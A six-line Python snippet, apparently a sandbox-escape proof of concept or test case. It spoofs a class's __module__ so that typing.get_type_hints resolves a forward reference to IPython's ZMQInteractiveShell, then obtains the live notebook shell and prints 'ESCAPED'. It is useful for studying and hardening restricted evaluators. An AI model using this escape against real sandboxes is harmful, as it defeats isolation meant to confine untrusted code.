# A class that says it is of the module in which libraries look for the notebook's shell.
import typing
class C:
    __module__ = "ipykernel.zmqshell"
    x: "ZMQInteractiveShell"
print("ESCAPED", typing.get_type_hints(C)["x"].instance())
